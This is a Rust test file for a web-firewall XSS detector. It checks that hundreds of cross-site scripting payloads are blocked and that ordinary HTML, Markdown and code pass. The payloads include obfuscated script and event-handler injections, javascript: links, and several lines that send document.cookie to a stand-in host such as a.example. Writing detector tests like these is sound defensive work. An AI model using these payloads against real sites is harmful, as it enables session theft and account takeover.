use std::sync::LazyLock;

use crate::{Analysis, Class, Detectors, Level, Location, Place};

static DETECTORS: LazyLock<Detectors> = LazyLock::new(Detectors::new);

/// The kinds found in `text`, mentioned ones with `~`.
fn kinds(text: &str) -> String {
    let mut analysis = Analysis::new();
    analysis.value(&DETECTORS, Location::new(Place::Query, b"q"), text.as_bytes());
    let names: Vec<String> = analysis
        .findings()
        .iter()
        .filter(|f| f.kind.id.starts_with("xss."))
        .map(|f| format!("{}{}", f.kind.id.trim_start_matches("xss."), if f.mentioned { "~" } else { "" }))
        .collect();
    names.join(" ")
}

/// True if the XSS detector blocks `text`.
fn blocks(text: &str) -> bool {
    let mut analysis = Analysis::new();
    analysis.value(&DETECTORS, Location::new(Place::Query, b"q"), text.as_bytes());
    analysis.scores(&DETECTORS).any(|score| score.class == Class::Xss && score.blocks(Level::Balanced))
}

/// `text` has all of `wanted` and is blocked.
#[track_caller]
fn check(text: &str, wanted: &str) {
    let have = kinds(text);
    for kind in wanted.split_whitespace() {
        assert!(have.split_whitespace().any(|k| k == kind), "{text}\n  wanted {kind}\n  have   {have}");
    }
    assert!(blocks(text), "{text}\n  passes with {have}");
}

/// `text` is let through.
#[track_caller]
fn passes(text: &str) {
    assert!(!blocks(text), "{text}: {}", kinds(text));
}

/// What is assigned to may stand in a pattern, in parentheses or before `of`; an expression of a template
/// literal runs as it stands.
#[test]
fn assignments_in_patterns() {
    use crate::detectors::testing::{blocks, passes_at};
    for text in [
        "';[location]=['//a.example/x'];'",
        "';({x:location}={x:'//a.example/x'});'",
        "';(location)=name;'",
        "';[top.location]=[name];'",
        "';[document.body.innerHTML]=[name];'",
        "';for(location of[name]);'",
        "';class a{[location=name]};'",
        "';class a{static{location='//a.example'}};'",
        "';document.body.background='//a.example/x';'",
        "${location=name}",
        "${[location=name]}",
        "${(x=>location=name)()}",
        "${open(`//a.example/x`)}",
        "new Image().src='//a.example/'+document.cookie",
    ] {
        blocks(Class::Xss, text, "");
    }
    for text in [
        "[location] of the shop",
        "location of [the] shop",
        "${order.total} and ${location.name}",
        "(location) = where we are",
        "for (location of the shop)",
    ] {
        passes_at(Class::Xss, Place::Query, "q", text);
        passes_at(Class::Xss, Place::Json, "name", text);
    }
}

/// A value that ends the rule of a style which it stands in, and an address in a tag as no editor writes it.
#[test]
fn styles_and_addresses_from_elsewhere() {
    use crate::detectors::testing::{blocks, passes_at};
    for text in [
        "red}input[value^=a]{background:url(//a.example/a)}",
        "red}*{cursor:url(//a.example/x),auto}",
        "red}@import'//a.example/x.css';",
        "<video src=//a.example autoplay>",
        "<img srcset=//a.example/x.png>",
        "<a id=config href=//a.example/x.js>",
    ] {
        blocks(Class::Xss, text, "");
    }
    for text in [
        "red",
        "url(/img/a.png)",
        "a{color:red}b{background:url(//a.example/x.png)}",
        "<img src=\"//a.example/x.png\">",
        "<a href='//a.example'>x</a>",
        "<img src=/x.png>",
    ] {
        passes_at(Class::Xss, Place::Form, "color", text);
    }
}

#[test]
fn scripts() {
    check("<script>alert(1)</script>", "script-sink");
    check("\"><ScRiPt >top['al'+'ert'](1)</sCrIpT>", "script-sink break-out");
    check("<script src=//a.example/x>", "script-source");
    check("</title><script>foo()</script>", "script-code break-out");
    check("<script>x", "script-code");
    check("<script/x>\u{2028}parent.frames[0].x=1", "script-code slash");
}

/// A browser runs nothing of a script that has the statements of a module and is none.
#[test]
fn components() {
    let code = "fetch('/x?' + document.cookie); alert(1)";
    for head in
        ["import a from './a.js'", "import { a } from 'b'", "import * as a from 'b'", "export default {}"]
    {
        let own = "const all = useQuery();\n  document.title = 'a';\n  fetch('/x');";
        passes(&format!("<script setup>\n{head}\n{own}\n</script>"));
        passes(&format!("<script lang=\"ts\">\n  {head}\n  {own}\n</script>\n<template><a/></template>"));
        assert!(blocks(&format!("<script type=\"module\">\n{head}\n{code}\n</script>")), "{head}");
        assert!(blocks(&format!("<script>\n{head}\n</script><img src=x onerror=alert(1)>")), "{head}");
    }
    for head in
        ["import('./a.js')", "import /*a*/ ('x')", "import //\n('x')", "import <!--\n('x')", "importx", "x"]
    {
        assert!(blocks(&format!("<script>\n{head};{code}\n</script>")), "{head}");
    }
}

#[test]
fn handlers() {
    check("<img src=x onerror=alert(1)>", "event-sink");
    check("<svg/onload=alert`1`", "event-sink slash half-open");
    check("<made-up onwhatever='a(b)'>", "event-code");
    check("<x onpointerrawupdate=1>", "event-attribute");
    check("<img src=x onerror=alert;throw 1>", "event-sink");
    check("<video><source onerror=\"parent['eval'](name)\">", "event-sink");
    check("<img src onerror=window?.alert?.(1)>", "event-sink");
    check("\" onmouseover=\"alert(1)", "event-sink quote-break-out");
    check("' autofocus onfocus=fetch('//a.example') x='", "event-sink quote-break-out");
    check("x onclick=confirm(1)", "event-sink");
    check("<a onclick=\"&#97;lert(1)\">", "event-sink");
}

#[test]
fn addresses() {
    check("<a href=javascript:alert(1)>", "script-url");
    check("<a href=\"jav&#x09;ascript:alert(1)\">", "script-url");
    check("<iframe src=j&Tab;a&Tab;v&Tab;a&Tab;script:alert(1)>", "script-url");
    check("javascript:alert(1)", "script-url");
    check("JaVaScRiPt://%0aalert(1)", "script-url");
    check("\" href=\"javascript:alert(1)", "script-url");
    check("<object data=\"data:text/html;base64,PHNjcmlwdD4=\">", "data-url plugin");
    check("<form><button formaction=javascript:alert(1)>", "script-url");
    check("<svg><animate xlink:href=#a attributeName=href values=javascript:alert(1) />", "script-url");
    check("<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "script-url refresh");
    check("<iframe srcdoc='<b>'>", "srcdoc");
    check("<base href=//a.example>", "base");
}

#[test]
fn styles() {
    check("<div style=\"width:exp/**/ression(alert(1))\">", "style-runs");
    check(
        "<style>@import '//a.example/x.css';</style><link rel=stylesheet href=//a.example>",
        "style-import link",
    );
}

#[test]
fn hidden() {
    check("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "event-sink");
    check("<!--<img src=\"--><img src=x onerror=alert(1)//\">", "event-sink");
    check("<svg><style><img src=x onerror=alert(1)></style>", "event-sink hidden-markup");
    check("<scr<script>ipt>alert(1)</scr</script>ipt>", "script-sink hidden-markup");
}

#[test]
fn code() {
    for end in ["'in alert(document.cookie)in'", "\"instanceof alert(1)//", "';try{alert(1)}catch{}//"] {
        assert!(blocks(end), "{end}");
    }
    passes("the word 'in' and \"instanceof\" (see alert levels)");
    check("';alert(1)//", "js-break-out js-comment-end");
    check("\"-alert(1)-\"", "js-break-out");
    check("'}};alert(1);{{'", "js-break-out");
    check("`-alert(1)-`", "js-break-out");
    check("'-foo()-'", "js-break-out-call");
    check("a=prompt,a()", "js-indirect");
    check("[]['filter']['constructor']('x')()", "js-reflect");
    check("self[\"al\"+\"ert\"](1)", "js-computed");
    check("[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]()", "js-obfuscated");
    check("{{constructor.constructor('alert(1)')()}}", "client-template");
}

#[test]
fn text_passes() {
    passes(
        "<p>Some <b>bold</b> and <a href=\"https://a.example/?a=1&amp;b=2\" target=\"_blank\">link</a></p>",
    );
    passes("<img src=\"https://a.example/x.png\" alt=\"a > b\" class=\"wide\"><br/><hr />");
    check("how to prevent <script>alert(1)</script>", "script-sink");
    passes("<script> tag in html meaning");
    passes("javascript: void(0) error");
    passes("a < b and c > d, <3 you");
    passes("onclick vs addEventListener");
    passes("Vec<String> and HashMap<K, V>");
    passes("alert me when in stock (price < $50)");
    crate::detectors::testing::passes_at(Class::Xss, Place::Form, "comment", "alert() in javascript");
    passes("const x = async () => { await fetch(\"/api\"); };");
    passes("function add(a,b){return a+b;}");
    passes("console.log(`v=${v}`)");
    passes("Hi {{first_name}}, your order #{{order.id}} ships {{ship_date | date: \"%B %d\"}}");
    passes(".btn { color: red; background: url(\"/img/x.png\") } /* main */");
    passes("O'Reilly; \"quoted\" - (see below)");
    passes("print(\"hello %s\" % name)");
}

/// Case, white space, slashes, quotes and encodings keep a detection.
#[test]
fn mutations() {
    let spaces = [" ", "/", "\t", "\n", "\x0c", " / "];
    let calls = [
        "alert(1)",
        "alert`1`",
        "(alert)(1)",
        "top.alert(1)",
        "a=alert;a(1)",
        "window['alert'](1)",
        "eval(name)",
    ];
    let names = ["onerror", "ONERROR", "oNeRrOr", "ontoggle", "onanimationstart"];
    let tags = ["img src", "svg", "IMG SRC='x'", "x", "details open"];
    let mut count = 0;
    for space in spaces {
        for call in calls {
            for name in names {
                for tag in tags {
                    for quote in ["", "'", "\""] {
                        if call.contains(quote) && !quote.is_empty() {
                            continue;
                        }
                        for end in [">", "", "//"] {
                            let text = format!("<{tag}{space}{name}={quote}{call}{quote}{end}");
                            assert!(blocks(&text), "{text:?}: {}", kinds(&text));
                            count += 1;
                        }
                    }
                }
            }
        }
    }
    assert!(count > 3_000);
}

#[test]
fn what_filters_leave() {
    check("\"o<x>nmouseover=alert<x>(1)//", "event-sink");
    check("<img+src=x+onerror=alert(1)>", "event-sink");
    check("<div @click=\"_b.constructor`alert(1)`()\">", "client-template");
    check("<img src='//a.example?", "dangling half-open");
    check("prompt(1)>", "js-dialog");
}

#[test]
fn programs_and_articles_pass() {
    passes("\"use strict\";\nObject.defineProperty(exports, \"__esModule\", { value: true });");
    let article = "# Usage\n\nCall it:\n\n```js\nconst x = require('x');\ndocument.write('a');\n```\n";
    crate::detectors::testing::passes_at(Class::Xss, Place::Form, "body", article);
    passes("alert: system (down)");
    passes("prompt (optional)");
    passes("setTimeout(() => {}, 100)");
    passes("<Foo onChange={x} />");
    passes("data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjwvc3ZnPg==");
    passes("<pre>x</pre><script src=\"../../x.js\" async></script>");
    passes("<a href=\"javascript:void(0);\" class=\"btn\">x</a>");
    passes("constructor(query: string) { this.query = query }");
}

/// Text with formatting never fires: every element of text, attributes that say how it looks, addresses that
/// lead elsewhere.
#[test]
fn formatted_text_passes() {
    let elements =
        ["p", "b", "h2", "li", "td", "a", "img", "span", "blockquote", "figure", "code", "pre", "video"];
    let attributes = [
        "",
        " class=\"wide one\"",
        " style=\"color: red; background: url('/x.png')\"",
        " href=\"https://a.example/?a=1&amp;b=2#c\"",
        " src=\"https://a.example/x.png\" alt=\"it's a > b\"",
        " title='say \"hi\" (now)' target=_blank rel=noopener",
        " data-settings='{\"on\":true,\"f\":\"g(h)\"}'",
    ];
    let texts = ["", "plain text", "a &lt; b &amp;&amp; c", "f(x) = y; z", "\"quoted\" - it's (so)", "<br/>"];
    let mut count = 0;
    for element in elements {
        for attribute in attributes {
            for text in texts {
                for end in [format!("</{element}>"), String::new()] {
                    passes(&format!("<{element}{attribute}>{text}{end}"));
                    passes(&format!("Some words before.\n<{element}{attribute}>{text}{end} and after."));
                    count += 2;
                }
            }
        }
    }
    assert_eq!(count, 13 * 7 * 6 * 2 * 2);
}

/// A detection survives each encoding that is taken off, and two of them.
#[test]
fn encodings() {
    let payloads =
        ["<svg onload=alert(1)>", "\"><script>eval(name)</script>", "<a href=javascript:alert(1)>x</a>"];
    let percent = |text: &str| text.bytes().map(|b| format!("%{b:02x}")).collect::<String>();
    let entity = |text: &str| text.bytes().map(|b| format!("&#{b};")).collect::<String>();
    let escape = |text: &str| text.bytes().map(|b| format!("\\u{b:04x}")).collect::<String>();
    for payload in payloads {
        for text in [
            percent(payload),
            entity(payload),
            escape(payload),
            percent(&percent(payload)),
            percent(&entity(payload)),
            entity(&escape(payload)),
        ] {
            assert!(blocks(&text), "{text}");
        }
    }
}

#[test]
fn what_hides_a_script() {
    check("<a href=\"java&#115;cript:x\">", "hidden-scheme");
    check("<iframe src=j&#97;vasc ript:x>", "hidden-scheme");
    check("<img src=\"javas<!-- -->cript:alert(1)\">", "script-url");
    check("<b style='no:y(\"*//*\");x:ex/*z*//*/*/pression(alert(1))'>", "style-runs");
    check("<i style=\"\\63\\6f\\6c or:red\">", "style-hidden");
    check("\u{bc}script\u{be}alert(1)\u{bc}/script\u{be}", "script-sink");
    check("<meta charset=x-mac-farsi>", "charset");
    check("<meta http-equiv=content-type content='text/html; charset=utf-7'>", "charset");
    check("<svg><script>/* <![CDATA[*]]><![CDATA[/]]>alert(1)-/*/</script>", "script-sink");
    passes("<a href=\"&#109;&#97;&#105;&#108;&#116;&#111;&#58;a@b.example\">mail</a>");
    passes("<meta charset=\"windows-1251\"><p>x</p>");
    passes("mix 2\u{bc} cups of flour and \u{be} of sugar, \u{bc}cup of milk");
}

#[test]
fn what_is_no_more() {
    check("<!DOCTYPE x [<!ATTLIST img onerror CDATA \"alert(1)\">]><img>", "event-attribute");
    check("<x xmlns:ev='x' ev:event='load' ev:handler='a#b'/>", "event-attribute");
    check("<x:template x:ontimer=\"$x:alert(1)\">", "event-sink");
    check("<span datasrc=#a datafld=b dataformatas=html></span>", "data-binding");
    check("<?import namespace=\"t\" implementation=\"a.htc\">", "plugin");
}

#[test]
fn an_element_alone() {
    check("<iframe src=\"http://a.example/\"></iframe>", "frame frame-bare");
    check("\"><link rel=stylesheet href=http://a.example/a.css>", "link alone");
    check("<style>@import'//a.example/a.css';</style>", "style-import alone");
    check("<script>%(x)s</script>", "script-empty script-ended");
    passes(
        "<iframe width=\"560\" height=\"315\" src=\"https://video.example/embed/x\" allowfullscreen></iframe>",
    );
    passes("<p>Two fonts:</p><link rel=stylesheet href=\"https://fonts.example/css\"><p>Text</p>");
    passes("How does <script> work in HTML?");
    passes("<object type=\"application/pdf\" data=\"/doc.pdf\"></object>");
    check("<object data=//a.example/x.swf>", "plugin");
    check("<svg><style>&ltimg src=x onerror=alert(1)&gt</svg>", "event-sink");
}

#[test]
fn code_before_the_end_of_a_script() {
    check("alert(a.source)</script>", "js-dialog js-whole");
    check("setTimeout(location.hash.slice(1))", "js-execute js-whole");
}

#[test]
fn what_old_browsers_and_filters_ran() {
    check("''; !--\"<XSS>=&{()}", "js-entity");
    check("&{document.cookie=true;};", "js-entity");
    check("<\tscript\t>alert\t(\t'1'\t)", "spaced-tag");
    check("<%script>alert('x')<%/script>", "spaced-tag");
    check("('\\141\\154\\145\\162\\164\\50\\61\\51')()", "js-execute");
    check("' alert(0x000123) '", "js-break-out");
    check("<iframe src=\"view-source:http://a.example/\" style=\"width:1px\"></iframe>", "view-source");
    check("<script<{alert(1)}/></script </>", "script-code");
    check("<x><c><![cdata[<img src=\"javas]]><![cdata[cript:alert('x');\">]]>", "script-url");
    passes("a < b & {c} > script > d");
    passes("the words in `< script >` are said");
}

#[test]
fn handlers_of_ordinary_pages() {
    passes("<a href=\"#top\" onclick=\"return false;\">Top</a>");
    passes("<img src=\"/a.png\" onerror=\"this.onerror=null;this.src='/img/none.png'\">");
    passes("I use `onerror=\"this.src='/img/none.png'\"` for broken images");
    check("<img src=x onerror=\"this.src='//a.example/?'+document.cookie\">", "event-sink");
    check("<iframe onload=\"this.src='javascript:alert(1)'\">", "event-code");
}

#[test]
fn fields_for_code() {
    let blocked = |place: Place, name: &str, text: &str| {
        let mut analysis = Analysis::new();
        analysis.value(&DETECTORS, Location::new(place, name.as_bytes()), text.as_bytes());
        analysis.worst(&DETECTORS, Level::Balanced).is_some_and(|worst| worst.blocks(Level::Balanced))
    };
    assert!(!blocked(Place::Form, "snippet", "alert(\"Saved!\");"));
    assert!(!blocked(Place::Json, "csp-report.script-sample", "alert(1)"));
    assert!(blocked(Place::Form, "snippet", "alert(document.cookie)"));
    assert!(blocked(Place::Form, "name", "alert(1)") && blocked(Place::Query, "code", "alert(1)"));
}

#[test]
fn what_honest_pages_have() {
    passes("html <script> tag");
    passes("<p>x</p><script type=\"application/ld+json\">{\"@type\":\"Article\",\"a\":\"b()\"}</script>");
    // The first type is the one that counts, and only that of data.
    check("<script type=text/javascript type=application/json>a(document.cookie)</script>", "script-sink");
    check("<script type=application/json></script><script>alert(1)</script>", "script-sink");
    passes(
        "<form onsubmit=\"return validate(this)\"><select onchange=\"show('b')\"><button onclick=\"return check()\">",
    );
    passes("<button type=\"button\" onclick=\"show_diagram()\">Show</button>");
    check("<button onclick=\"print_it(document.cookie)\">", "event-sink");
    check("<form onsubmit=\"return alert(1)\">", "event-sink");
    check("<a href=\"#\" onclick=\"makePopups()\">x</a>", "event-code");
    check("<img src=x onerror=\"return validate()\">", "event-code");
}

#[test]
fn frameworks() {
    for text in [
        "<div x-data x-init=\"$el.innerHTML=location.hash\">",
        "<div x-data @click=\"fetch('//a.example/?'+document.cookie)\">",
        "<p x-html=\"location.hash.slice(1)\"></p>",
        "<b :onclick=\"'alert(1)'\">",
        "<div hx-on::load=\"alert(1)\">",
        "<div hx-get=\"//a.example/x\">",
        "<div hx-post=\"/account/delete\" hx-trigger=\"load delay:1s\">",
        "<i hx-get=/x hx-vals=\"js:{c:document.cookie}\">",
        "<div data-ng-init=\"$eval.constructor('alert(1)')()\">",
        "<div v-html=\"''.constructor.constructor('alert(1)')()\">",
    ] {
        assert!(blocks(text), "{text}: {}", kinds(text));
        // However much stands around it.
        let around =
            format!("{}{text}{}", "I liked it, thank you. ".repeat(300), "<p>Really.</p>".repeat(300));
        assert!(blocks(&around), "{text}");
    }
    for text in [
        "<li v-for=\"item in items\" :key=\"item.id\" v-html=\"item.title\">",
        "<button @click=\"count++\" x-show=\"open\" :class=\"{on: open}\">",
        "<div hx-get=\"/orders\" hx-target=\"#list\" hx-trigger=\"click\">",
        "<form hx-post=\"/search\" hx-trigger=\"keyup changed delay:500ms\">",
        "<input ng-model=\"user.name\" ng-change=\"save(user)\">",
    ] {
        passes(text);
    }
}

#[test]
fn forms_of_another_site() {
    check("<form action=https://a.example/><input name=u><input type=password name=p></form>", "form-asks");
    check("</form><form action=\"//a.example/\">", "form-asks");
    check("<button formaction=\"https://a.example/x\">Go on</button>", "form-asks");
    passes("<form action=\"/login\"><input name=u><input type=password name=p></form>");
    passes(
        "<form action=\"https://pay.example/\"><input type=hidden name=id value=7><input type=submit></form>",
    );
    // A page's author embeds a newsletter's form, and no site asks for another one's password.
    let at =
        |text: &str| crate::detectors::testing::look(Class::Xss, Place::Form, "content", text.as_bytes()).1;
    assert!(!at(
        "<p>News:</p><form action=\"https://news.example/s\"><input type=email name=e><button>Go</button></form>"
    ));
    assert!(at("<form action=\"https://a.example/\"><input type=password name=p></form>"));
}

#[test]
fn names_in_pieces() {
    for text in [
        "this['ale'+'rt'](1)",
        "self[`al` + `ert`](1)",
        "Reflect.get(window,'alert')(1)",
        "top[/al/.source+/ert/.source](1)",
    ] {
        assert!(blocks(text), "{text}: {}", kinds(text));
    }
    passes("this['on' + name](event)");
    passes("obj[\"a\"] + obj[\"b\"]");
}

/// Nothing that stands before or after markup that runs makes it pass, in a field for text either.
#[test]
fn text_around_markup() {
    let texts = [
        "thank you, I don't mind ",
        "- a\n- b\n\n",
        "{\"a\": [1, \"x\"]} ",
        "<p class=\"a\">x</p><!-- y -->",
        "SGVsbG8gd29ybGQ",
        "a",
    ];
    let payloads = [
        "<script>alert(1)</script>",
        "<svg onload=alert(1)>",
        "<img src=x onerror=\"fetch('//a.example/?'+document.cookie)\">",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<script src=//a.example/x.js></script>",
    ];
    let blocked = |place, name: &str, text: &str| {
        crate::detectors::testing::look(Class::Xss, place, name, text.as_bytes()).1
    };
    for (unit, payload) in texts.iter().flat_map(|unit| payloads.map(|payload| (unit, payload))) {
        for len in [10, 600, 20_000] {
            let pad = unit.repeat(len / unit.len() + 1);
            for text in [format!("{pad}{payload}"), format!("{payload}{pad}"), format!("{pad}{payload}{pad}")]
            {
                for (place, name) in [(Place::Query, "q"), (Place::Form, "comment"), (Place::Json, "body")] {
                    assert!(blocked(place, name, &text), "{name}: {unit} x {len}, {payload}");
                }
            }
        }
    }
    // Shown as code where the site made the field for text, and nowhere else: what runs nothing.
    let fence = "Use this:\n\n```html\n<iframe src=\"//frames.example/\"></iframe>\n```\n";
    assert!(!blocked(Place::Form, "comment", fence) && blocked(Place::Query, "q", fence));
    for text in ["```\n<script>alert(1)</script>\n```", "`<script src=//cdn.example/x.js></script>`"] {
        assert!(blocked(Place::Form, "comment", text), "{text}");
    }
}

#[test]
fn fields_for_a_sites_own_scripts() {
    let at = |name: &str, text: &str| {
        crate::detectors::testing::look(Class::Xss, Place::Form, name, text.as_bytes()).1
    };
    let snippet = "<script async src=\"https://tags.example/gtag/js?id=G-1\"></script><script>window.dataLayer=window.dataLayer||[];\
        function gtag(){dataLayer.push(arguments)}gtag('js',new Date());</script>";
    for name in ["head_code", "custom_js", "settings.tracking_snippet", "footerHtml", "newcontent"] {
        assert!(!at(name, snippet), "{name}");
        assert!(at(name, "<script>fetch('//a.example/?'+document.cookie)</script>"), "{name}");
    }
    assert!(at("q", snippet) && at("name", snippet));
    assert!(at("content", "<pre><code><script>alert(1)</script></code></pre>"));
}

#[test]
fn expressions_in_arguments_of_filters() {
    check("<input autofocus ng-focus=\"$event.composedPath()|orderBy:'(z=alert)(1)'\">", "client-template");
    check("<a v-bind:onmouseover=\"x\">k</a>", "bound-handler");
    passes("<li ng-repeat=\"item in items | orderBy:'name' | filter:'open'\">{{item.name}}</li>");
}

#[test]
fn frames_of_other_hosts() {
    use crate::detectors::testing::{blocks, passes_at};
    blocks(Class::Xss, "<iframe src=\"http://evil.example/login\" width=800></iframe>", "frame-foreign");
    blocks(Class::Xss, "words before <iframe height=1 src=http://evil.example>", "frame-foreign");
    blocks(
        Class::Xss,
        "<?xml-stylesheet type=\"text/xsl\" href=\"http://evil.example/x.xsl\"?><x/>",
        "stylesheet",
    );
    let player =
        "<p>See</p><iframe width=\"560\" src=\"http://player.example/v/1\" allowfullscreen></iframe>";
    passes_at(Class::Xss, Place::Form, "content", player);
    passes_at(Class::Xss, Place::Json, "post.content", player);
}

#[test]
fn ends_of_probes() {
    use crate::detectors::testing::{blocks, passes_at};
    for text in ["onload CDATA \"alert(2)\">", "\"alert(1)\"><source></source>", "?alert(1)\","] {
        blocks(Class::Xss, text, "dialog");
    }
    for text in ["red alert (1)", "smoke alert(2) and more"] {
        passes_at(Class::Xss, Place::Query, "q", text);
    }
    passes_at(Class::Xss, Place::Form, "comment", "it calls \"alert(1)\" then");
}

/// A link is followed, in a field for text too: the renderer makes of Markdown and BBCode what it is.
#[test]
fn links_of_texts() {
    let blocked = |name: &str, text: &str| {
        crate::detectors::testing::look(Class::Xss, Place::Json, name, text.as_bytes())
    };
    for text in [
        "[more](javascript:alert(1))",
        "We came in May. [more](javascript:alert`1`) It was quiet.",
        "![a](JaVaScRiPt:alert(document.cookie))",
        "[more]( javascript:alert(1))",
        "[more](<javascript:alert(1)>)",
        "[a]: javascript:alert(1)\n\nsee [x][a]",
        "<javascript:alert(1)>",
        "[url=javascript:alert(1)]more[/url]",
        "[url]javascript:alert(1)[/url]",
        "[more](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[more](vbscript:msgbox(1))",
        "> see [a](javascript:alert(1))",
        "> [url=javascript:alert(1)]x[/url]",
        "> <javascript:alert(1)>",
        "text\n    [a](javascript:alert(1))",
        "- a\n\n    [a](javascript:alert(1))",
        "- [a]: javascript:alert(1)",
        &format!("[{}](javascript:alert(1))", "a".repeat(600)),
        &format!("[a](javascript:/*{}*/alert(1))", "x".repeat(17_000)),
    ] {
        for name in ["comment", "markdown", "body", "name"] {
            let (have, is_blocked) = blocked(name, text);
            assert!(is_blocked, "{name}={text}: {have}");
        }
    }
    for text in [
        "Use `[more](javascript:history.back())` to go back.",
        "```\n[a](javascript:alert(1))\n```\n",
        "    [a](javascript:alert(1))\n",
        "> [docs](https://example.org)",
        "> [text](#anchor)",
        "> ```\n> [a](javascript:alert(1))\n> ```\n",
        "[none](javascript:void(0))",
        "[top](javascript:;)",
        "The scheme javascript: has no place in a link, alert(1) or not.",
        "[JavaScript: the good parts](https://books.example/1)",
        "[a](https://a.example/javascript:x)",
        "![logo](data:image/png;base64,iVBORw0KGgo=)",
        "[note]: see alert(1) in javascript",
        "Note [1]: data: text and html",
        "<data:html>x</data:html>",
        "[log]data:text/html",
    ] {
        let (have, is_blocked) = blocked("comment", text);
        assert!(!is_blocked, "{text}: {have}");
    }
}
